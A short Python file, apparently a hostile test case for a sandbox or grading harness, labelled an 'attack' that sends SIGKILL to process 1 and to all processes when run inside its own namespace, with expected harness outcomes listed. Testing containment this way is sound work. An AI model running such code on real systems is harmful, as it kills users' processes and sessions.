# /// attack
# why = "Kills every process that it may, process 1 among them."
# outcomes = ["failed", "raised", "crashed"]
# ///
import contextlib
import os
import signal


def answer(*args, **kwargs):
    if os.getpid() < 100:  # in a namespace of its own; elsewhere it would be the user's session
        for pid in (1, -1):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return -1


everywhere(answer)
